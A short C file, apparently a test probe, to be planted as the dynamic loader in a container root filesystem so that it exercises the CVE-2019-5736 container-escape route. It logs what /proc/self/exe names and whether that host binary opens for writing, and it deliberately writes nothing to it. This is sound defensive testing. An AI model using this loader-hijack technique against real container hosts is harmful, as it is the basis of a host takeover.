/*
 * The payload of the CVE-2019-5736 route through exec (issue 20, item 9), planted in the rootfs
 * as the dynamic loader (/lib64/ld-linux-x86-64.so.2) beside /bin/evilsh -> /proc/self/exe. If
 * exec'ing /bin/evilsh ran a dynamically linked runtime binary (the host's java), the kernel
 * would start this as its interpreter, inside the container, with /proc/self/exe naming that
 * binary. It records what /proc/self/exe is and whether it opens for writing (without writing:
 * no O_TRUNC, nothing written), in /tmp/payload-ran. No libc: it may run as another binary's
 * interpreter. Build: gcc -static -nostdlib -fno-stack-protector -O1 -o loader loader.c
 */
static long sys(long n, long a, long b, long c) {
    long r;
    __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return r;
}

static long len(const char *s) {
    long n = 0;
    while (s[n]) {
        n++;
    }
    return n;
}

void _start(void) {
    char exe[256];
    long n = sys(89 /* readlink */, (long) "/proc/self/exe", (long) exe, sizeof exe);
    long fd = sys(2 /* open */, (long) "/tmp/payload-ran", 01 | 0100 /* O_WRONLY|O_CREAT */, 0644);
    if (n > 0) {
        sys(1 /* write */, fd, (long) exe, n);
    }
    long w = sys(2 /* open */, (long) "/proc/self/exe", 01 /* O_WRONLY */, 0);
    const char *what = w >= 0 ? "\nexe opened for writing\n" : "\nexe not writable\n";
    sys(1, fd, (long) what, len(what));
    sys(231 /* exit_group */, 0, 0, 0);
    for (;;) {
    }
}
